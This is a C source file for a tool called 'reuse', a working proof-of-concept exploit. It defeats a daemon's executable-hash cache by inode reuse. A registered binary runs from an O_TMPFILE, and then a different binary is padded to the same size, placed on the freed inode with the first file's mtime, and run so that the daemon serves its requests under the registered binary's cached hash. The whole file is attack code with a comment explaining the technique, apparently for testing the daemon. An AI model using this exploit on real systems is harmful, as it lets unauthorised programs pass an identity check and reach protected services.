// reuse: the inode-reuse attack on the daemon's hash cache.
//
//	reuse <dir> <socket> <registered> <other> <tries> <check-line> <read-line>
//
// Each try copies <registered> into an O_TMPFILE in <dir>, runs it from
// there to send <check-line> (the daemon hashes that file and caches the
// hash under the file's inode number, size and times), waits for it to
// exit, which frees the inode, then at once writes <other>, padded to the
// same size, into a second O_TMPFILE, gives it the first file's mtime and
// runs it to send <read-line>. ext4 and tmpfs hand the freed inode number
// to the next new file, and a ctime taken from a clock that ticks every few
// milliseconds often comes out equal too: a cache keyed on (dev, inode,
// size, mtime, ctime) then answers for the second file with the first's
// hash. It prints one summary line:
//
//	tries=N reused=R served=S
//
// reused counts tries where the second file got the first's inode number,
// served those where the daemon answered the read with success.
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

static char *slurp(const char *path, size_t *n) {
	FILE *f = fopen(path, "rb");
	if (!f) { perror(path); exit(1); }
	fseek(f, 0, SEEK_END);
	*n = ftell(f);
	rewind(f);
	char *b = calloc(1, *n);
	if (fread(b, 1, *n, f) != *n) { perror(path); exit(1); }
	fclose(f);
	return b;
}

// tmpexe writes n bytes into a new O_TMPFILE in dir, optionally sets its
// mtime, and returns a read-only descriptor on it (a writable one would
// make exec fail with ETXTBSY).
static int tmpexe(const char *dir, const char *b, size_t n, const struct timespec *mtime) {
	int w = open(dir, O_TMPFILE | O_RDWR, 0755);
	if (w < 0) { perror("open O_TMPFILE"); exit(1); }
	if (write(w, b, n) != (ssize_t)n) { perror("write"); exit(1); }
	if (mtime) {
		struct timespec ts[2] = {{0, UTIME_OMIT}, *mtime};
		if (futimens(w, ts) < 0) { perror("futimens"); exit(1); }
	}
	char p[64];
	snprintf(p, sizeof p, "/proc/self/fd/%d", w);
	int r = open(p, O_RDONLY | O_CLOEXEC);
	if (r < 0) { perror("reopen"); exit(1); }
	close(w);
	return r;
}

// run execs the file open on fd with argv, returning what it printed.
static int run(int fd, char *const argv[], char *out, size_t outsz) {
	int p[2];
	if (pipe(p) < 0) { perror("pipe"); exit(1); }
	pid_t pid = fork();
	if (pid == 0) {
		dup2(p[1], 1);
		dup2(fd, 3);
		execv("/proc/self/fd/3", argv);
		_exit(127);
	}
	close(p[1]);
	size_t got = 0;
	ssize_t r;
	while (got < outsz - 1 && (r = read(p[0], out + got, outsz - 1 - got)) > 0)
		got += r;
	out[got] = 0;
	close(p[0]);
	int st;
	waitpid(pid, &st, 0);
	return st;
}

int main(int argc, char **argv) {
	if (argc != 8) {
		fprintf(stderr, "usage: reuse <dir> <socket> <registered> <other> <tries> <check-line> <read-line>\n");
		return 2;
	}
	size_t rn, en;
	char *reg = slurp(argv[3], &rn), *oth = slurp(argv[4], &en);
	if (en > rn) { fprintf(stderr, "reuse: %s is larger than %s\n", argv[4], argv[3]); return 2; }
	char *padded = calloc(1, rn);
	memcpy(padded, oth, en);
	int tries = atoi(argv[5]), reused = 0, served = 0;
	char out[65536];
	for (int i = 0; i < tries; i++) {
		int a = tmpexe(argv[1], reg, rn, NULL);
		struct stat sa, sb;
		fstat(a, &sa);
		char *checkArgv[] = {argv[3], argv[2], argv[6], NULL};
		run(a, checkArgv, out, sizeof out);
		close(a);
		int b = tmpexe(argv[1], padded, rn, &sa.st_mtim);
		fstat(b, &sb);
		if (sb.st_ino != sa.st_ino) { close(b); continue; }
		reused++;
		char *readArgv[] = {argv[4], argv[2], argv[7], NULL};
		run(b, readArgv, out, sizeof out);
		close(b);
		if (strstr(out, "\"status\":\"success\"")) {
			served++;
			fprintf(stderr, "try %d: served: %s", i, out);
		}
	}
	printf("tries=%d reused=%d served=%d\n", tries, reused, served);
	return 0;
}
